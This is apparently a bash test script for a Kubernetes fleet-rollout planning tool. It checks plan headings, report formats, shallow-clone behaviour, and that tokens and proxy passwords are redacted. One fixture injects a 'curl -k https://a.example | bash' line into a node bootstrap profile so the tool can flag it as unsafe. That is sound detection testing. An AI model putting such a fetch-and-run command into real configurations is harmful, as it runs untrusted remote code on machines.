#!/usr/bin/env bash
# A fact is one heading, whatever its cause and the text around it: members of spec.template and settings, which no file of the
# output has in the clear, with their values, but for credentials. A shallow clone makes the same commit without them.
# shellcheck source=tests/cli/_lib.sh
. "$(dirname "$0")/_lib.sh"

pool() { # NAME LINES-OF-SED...: a MachineDeployment like that of the base
	local name=$1
	shift
	sed "s/workers/$name/g" "$folder/workers.yaml" >"$folder/$name.yaml"
	[ $# -eq 0 ] || sed -i "$@" "$folder/$name.yaml"
}
headings() { # NAME WANT: the headings of the plan, without the number of machines
	exits "$1: plan" 0 "$program" plan --repo "$repo" -o json
	same "$1" "$2" "$(jq -r '.groups[] | "\(.class): \(.heading)"' "$scratch/out" | sed 's/ (profile.*//')"
}
lacks() { # PATTERN FILES...
	! grep -qE "$@"
}
undo() { git -C "$repo" reset -q --hard HEAD~1; }

repo=$(small fleet)
folder=$repo/clusters/prod
# Names that are words of scripts and settings.
for name in a kube version default; do pool "$name"; done
commit_all "$repo" "five pools"
exits "the first output" 0 "$program" generate -q --repo "$repo"

# ---- one bump, and names that are words ------------------------------------------------------------------------------------------
sed -i 's/1.35.2/1.35.3/' "$folder"/*.yaml
commit_all "$repo" "kubelet"
headings "one bump" "ROLL: kubelet 1.35.2 -> 1.35.3 in 5 MachineDeployments of prod"
undo

# ---- members of the template -----------------------------------------------------------------------------------------------------
sed -i 's/labels: {pool: a}/labels: {pool: a, tier: gold}/' "$folder/a.yaml"
sed -i 's/^      versions:/      taints: [{key: dedicated, value: night, effect: NoExecute}]\n&/' "$folder/kube.yaml"
sed -i 's/serverType: cx42/serverType: cx52, networks: [n1, n2], token: {value: the-old-one-of-nobody}/' "$folder/version.yaml"
commit_all "$repo" "templates"
headings "members by name" "ROLL: machine label tier set to gold in prod/kube-system/a
ROLL: taint dedicated=night:NoExecute added in prod/kube-system/kube
ROLL: serverType cx42 -> cx52, networks set to [n1, n2], token changed in prod/kube-system/version"
for form in markdown html github gitlab junit sarif json; do
	exits "$form" 0 "$program" plan --repo "$repo" --report "$form=$scratch/report"
	ok "$form has a member" grep -q "taint dedicated=night%\?3\?A\?:\?NoExecute added" "$scratch/report"
	ok "$form has no credential" lacks "the-old-one-of-nobody" "$scratch/report" "$scratch/out"
done

# ---- the same commit without the history -----------------------------------------------------------------------------------------
git clone -q --depth 1 "file://$repo" "$scratch/shallow"
exits "a shallow clone" 0 "$program" generate -q --repo "$scratch/shallow"
exits "the whole one" 0 "$program" generate -q --repo "$repo"
same "the same commit" "$(git -C "$repo" rev-parse HEAD)" "$(git -C "$scratch/shallow" rev-parse HEAD)"
ok "whose message tells what both know" grep -qF "spec.template changed" <(git -C "$repo" log -1 --format=%B)

# A credential that is replaced: neither the old nor the new one is shown.
sed -i 's/the-old-one-of-nobody/the-new-one-of-nobody/' "$folder/version.yaml"
commit_all "$repo" "another token"
headings "another credential" "ROLL: token changed in prod/kube-system/version"
ok "that it is another, not which" lacks "the-(old|new)-one-of-nobody" "$scratch/out"
undo

# Of very many members the first are named.
python3 -c 'import sys
print("\n".join(f"        more-{number}: x" for number in range(60)))' >"$scratch/labels"
sed -i -e '/labels: {pool: default}/,$d' "$folder/default.yaml"
{ printf '    metadata:\n      labels:\n        pool: default\n' && cat "$scratch/labels" && printf '  selector: {matchLabels: {pool: default}}\n'; } >>"$folder/default.yaml"
commit_all "$repo" "sixty labels"
exits "sixty labels: plan" 0 "$program" plan --repo "$repo" -o json
same "sixty labels" "51 more members changed" "$(jq -r '.groups[0].fields | "\(length) \(last.name)"' "$scratch/out")"
undo

# A new one: a line that no unit of the last output has.
cp "$repo/osp-small.yaml" "$scratch/small"
sed -e 's/name: osp-small/name: osp-unsafe/' -e 's/echo {{/curl -k https:\/\/a.example | bash; echo {{/' "$scratch/small" >"$repo/osp-unsafe.yaml"
pool unsafe 's/osp-small/osp-unsafe/'
commit_all "$repo" "a new one"
exits "a new one: plan" 0 "$program" plan --repo "$repo"
ok "its line that is not safe" grep -q "A shell runs what another command prints: /opt/bin/setup: curl -k" "$scratch/out"
undo

# ---- settings --------------------------------------------------------------------------------------------------------------------
sed -i 's/^    managementCluster: self/&\n    tokenRotation: weekly/' "$folder/osm-gen.yaml"
commit_all "$repo" "rotation"
headings "a setting, and no alarm" "NEW-NODES-ONLY: tokenRotation set to weekly, bootstrap token changed in 5 MachineDeployments of prod"
same "no note" "[]" "$(jq -c .notes "$scratch/out")"
same "no line that comes back" "" "$(jq -r '.groups[].diff' "$scratch/out" | awk '/^-/ {was[substr($0, 2)]} /^[+]/ && substr($0, 2) in was' | grep -v ': \.\.\.$\|:\.\.\.$')"
undo
printf '  defaults:\n    pauseImage: registry.example.com/pause:3.10\n    nodeHTTPProxy: http://user:pw-of-nobody@proxy.example.com:3128\n' >>"$repo/osm-gen.yaml"
commit_all "$repo" "defaults"
exits "a setting of the Fleet" 0 "$program" plan --repo "$repo"
ok "by name" grep -qF "pause image set to registry.example.com/pause:3.10" "$scratch/out"
ok "and a proxy" grep -qF "nodeHTTPProxy changed" "$scratch/out"
ok "without its password" lacks "pw-of-nobody" "$scratch/out"

undo
printf '  defaults:\n    pauseImage: registry.example.com/pause:3.10\n    nodeNoProxy: "%s"\n' "$(python3 -c 'print(".svc," * 2000 + ".internal")')" >>"$repo/osm-gen.yaml"
commit_all "$repo" "a long value"
exits "a long value: plan" 0 "$program" plan --repo "$repo" -o json
same "only its name" "true" "$(jq '[.groups[].fields[] | select(.name == "nodeNoProxy changed" and .before == "" and .after == "")] | length > 0' "$scratch/out")"
same "units have their profile" '["osp-small"]' "$(jq -c '[.units[].profile] | unique' "$scratch/out")"
undo
sed -i 's/managementCluster: self/managementCluster: hub/' "$folder/osm-gen.yaml"
commit_all "$repo" "another management cluster"
exits "without an applier: plan" 0 "$program" plan --repo "$repo"
ok "the setting alone is noted" grep -qF "Another management cluster: cluster prod (15 machines): itself -> hub." "$scratch/out"
same "first of all" "1 cluster (15 machines) moves to another management cluster" "$(head -n 1 "$scratch/out")"

finish
